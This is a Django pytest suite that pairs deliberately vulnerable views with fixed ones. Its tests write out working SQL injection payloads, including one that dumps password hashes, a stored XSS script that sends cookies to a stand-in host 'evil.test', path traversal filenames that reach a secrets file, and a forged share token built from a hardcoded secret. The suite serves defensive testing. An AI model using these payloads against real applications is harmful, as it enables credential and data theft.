"""Each vulnerability of security_before.py is exploited by a test, and the same request
against security_after.py is refused or harmless. Alice attacks; Bob is the victim."""
import hashlib
import time

import pytest
from django.core import signing

from quality import security_after, security_before
from quality.models import Document

pytestmark = pytest.mark.django_db
BEFORE, AFTER = "/quality/docs-before", "/quality/docs"


@pytest.fixture(autouse=True)
def fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]  # tests only


@pytest.fixture
def alice(django_user_model):
    return django_user_model.objects.create_user("alice", password="alice-pass-123")


@pytest.fixture
def bob(django_user_model):
    return django_user_model.objects.create_user("bob", password="bob-pass-456")


@pytest.fixture
def bobs_doc(bob):
    return Document.objects.create(owner=bob, title="Bob salary review", body="Bob earns 95k")


@pytest.fixture
def attacker(client, alice):
    Document.objects.create(owner=alice, title="Alice notes", body="mine")
    client.force_login(alice)
    return client


def test_sql_injection_returns_other_users_rows(attacker, bobs_doc):
    payload = "' OR 1=1 --"
    assert "Bob salary review" in attacker.get(f"{BEFORE}/search/", {"q": payload}).text
    assert attacker.get(f"{AFTER}/search/", {"q": payload}).text == ""  # just a title nobody has
    assert attacker.get(f"{AFTER}/search/", {"q": "notes"}).text == "Alice notes"


def test_sql_injection_dumps_password_hashes(attacker, bob):
    payload = "' UNION SELECT username || ':' || password FROM auth_user --"
    assert f"bob:{bob.password}" in attacker.get(f"{BEFORE}/search/", {"q": payload}).text
    assert bob.password not in attacker.get(f"{AFTER}/search/", {"q": payload}).text


def test_idor_reads_another_users_document(attacker, bobs_doc):
    assert attacker.get(f"{BEFORE}/{bobs_doc.pk}/").status_code == 200
    assert attacker.get(f"{AFTER}/{bobs_doc.pk}/").status_code == 404


def test_stored_xss_renders_the_script_tag(client, alice):
    doc = Document.objects.create(owner=alice, title="Hi", body="<script>fetch('//evil.test?c='+document.cookie)</script>")
    client.force_login(alice)  # whoever opens the page runs the script
    assert "<script>" in client.get(f"{BEFORE}/{doc.pk}/").text
    escaped = client.get(f"{AFTER}/{doc.pk}/").text
    assert "<script>" not in escaped and "&lt;script&gt;" in escaped


@pytest.fixture
def report_files(settings, tmp_path, alice, bob):
    settings.MEDIA_ROOT = tmp_path
    for user, name, text in [(alice, "q3.txt", "alice report"), (bob, "payroll.txt", "bob payroll")]:
        folder = tmp_path / "reports" / str(user.pk)
        folder.mkdir(parents=True)
        (folder / name).write_text(text)
    (tmp_path / "secrets.env").write_text("DB_PASSWORD=hunter2")
    return tmp_path


def read(response):
    return b"".join(response.streaming_content).decode()  # the test client closes the file after


@pytest.mark.parametrize(
    ("name", "leaked"),
    [
        ("../{bob}/payroll.txt", "bob payroll"),  # a sibling folder
        ("../../secrets.env", "DB_PASSWORD"),  # outside the media folder
        ("{root}/secrets.env", "DB_PASSWORD"),  # os.path.join drops everything before an absolute path
    ],
)
def test_path_traversal_reads_files_outside_the_folder(attacker, bob, report_files, name, leaked):
    name = name.format(bob=bob.pk, root=report_files)
    assert leaked in read(attacker.get(f"{BEFORE}/download/", {"name": name}))
    assert attacker.get(f"{AFTER}/download/", {"name": name}).status_code == 404
    assert read(attacker.get(f"{AFTER}/download/", {"name": "q3.txt"})) == "alice report"


def test_a_nul_byte_in_the_name_is_refused(attacker, report_files):
    assert attacker.get(f"{AFTER}/download/", {"name": "q3.txt\x00.pdf"}).status_code == 404


def test_hardcoded_secret_lets_anyone_forge_a_share_link(client, bobs_doc):
    # The secret is in the source, so an attacker computes a valid token for any id.
    forged = hashlib.md5(f"{bobs_doc.pk}q3-share-links-2024".encode()).hexdigest()
    assert client.get(f"{BEFORE}/shared/{bobs_doc.pk}/{forged}/").text == "Bob earns 95k"
    # After: the token is an HMAC under SECRET_KEY; a guessed or re-signed one is refused.
    assert client.get(f"{AFTER}/shared/{forged}/").status_code == 404
    other_key = signing.TimestampSigner(key="leaked-old-key", salt="quality.document-share")
    assert client.get(f"{AFTER}/shared/{other_key.sign(str(bobs_doc.pk))}/").status_code == 404


def test_share_links_are_signed_scoped_and_expire(client, bobs_doc, bob, monkeypatch):
    token = security_after.share_token(bobs_doc)
    assert client.get(f"{AFTER}/shared/{token}/").text == "Bob earns 95k"
    other = Document.objects.create(owner=bob, title="Other", body="other")
    tampered = token.replace(f"{bobs_doc.pk}:", f"{other.pk}:", 1)
    assert client.get(f"{AFTER}/shared/{tampered}/").status_code == 404
    # Same SECRET_KEY, signed by code that uses the default salt: not a share link.
    other_feature = signing.TimestampSigner().sign(str(bobs_doc.pk))
    assert client.get(f"{AFTER}/shared/{other_feature}/").status_code == 404
    eight_days = time.time() + 8 * 24 * 3600
    monkeypatch.setattr(signing.time, "time", lambda: eight_days)
    assert client.get(f"{AFTER}/shared/{token}/").status_code == 404
    # The old token never expires: the same clock still opens it.
    assert client.get(f"{BEFORE}/shared/{bobs_doc.pk}/{security_before.share_token(bobs_doc.pk)}/").status_code == 200
